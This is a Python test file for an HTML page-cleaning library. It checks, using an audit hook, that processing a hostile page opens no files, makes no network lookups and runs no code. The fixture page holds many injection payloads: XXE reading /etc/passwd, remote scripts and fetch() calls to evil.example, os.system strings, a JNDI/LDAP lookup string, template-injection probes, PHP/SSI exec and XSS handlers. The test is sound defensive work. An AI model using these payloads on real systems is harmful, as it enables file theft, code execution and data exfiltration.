"""Nothing that a page names is opened, looked up or run, whatever is done with the page."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from training.paths import ROOT

# What a page can name: files, hosts, programs, code, entities that hold other files.
HOSTILE = """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">
<!ENTITY % y SYSTEM "http://evil.example/y.dtd">]>
<html><head><base href="file:///etc/"><title>&x; ตลาดเช้า</title>
<link rel=stylesheet href="http://evil.example/a.css"><link rel=canonical href="http://evil.example/">
<style>@import "http://evil.example/b.css"; p{background:url(file:///etc/passwd)}</style>
<script src="http://evil.example/a.js"></script>
<script>fetch("http://evil.example/"); __import__("os").system("touch /tmp/x")</script>
<script type="application/ld+json">{"@context":"http://evil.example/context.jsonld","@type":"Article",
"image":"http://evil.example/i.png","articleBody":"__import__('os').system('true')"}</script></head>
<body background="http://evil.example/b.png" onload="alert(1)">
<?php system('true'); ?><!--#exec cmd="true" --><xi:include href="/etc/passwd"/>
<p>Kapı açıldı; the market at the river opened <a href="javascript:alert(1)">at six</a>, and
<img src="http://evil.example/p.png" onerror="alert(1)"> <iframe src="file:///etc/passwd"></iframe>
{{ 7*7 }} ${jndi:ldap://evil.example/a} %s {0.__class__} the boats came in one after the other.</p>
<object data="http://evil.example/o"></object><embed src="\\\\\\\\evil.example\\\\share\\\\x">
<svg><use href="http://evil.example/s.svg#a"/></svg>
<math><annotation-xml href="//evil.example"/></math>
</body></html>"""
PROGRAM = """
import json, sys
import boilerplate
from boilerplate.explain.batch_report import html_report
from tests.made_up import news_page

def everything(source):
    page = boilerplate.clean(source, url="https://daily.example/a")
    page.to_dict("a.html"), page.to_markdown(), page.to_html(), str(page), page.places()
    html_report([("a.html", page)])

for page in (news_page("th"), news_page("tr").encode("windows-1254")):
    everything(page)  # what is imported and read once: modules, models, profiles
found = []
sys.addaudithook(lambda name, values: found.append((name, repr(values)[:200])))
source = sys.stdin.read()
everything(source)
everything(source.encode("utf-16"))
open("LICENSE").close()  # the hook hears this one
print(json.dumps(found))
"""
# What Python itself tells of calls that touch nothing outside of the process.
HARMLESS = {"object.__getattr__", "sys._getframe", "code.__new__", "gc.get_objects", "builtins.id"}


@pytest.mark.slow
def test_cleaning_a_page_opens_looks_up_and_runs_nothing() -> None:
    done = subprocess.run(
        [sys.executable, "-c", PROGRAM], input=HOSTILE, capture_output=True, encoding="utf-8",
        cwd=ROOT,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    heard = [event for event in json.loads(done.stdout) if event[0] not in HARMLESS]
    [(name, values)] = heard
    assert (name, "LICENSE" in values) == ("open", True)
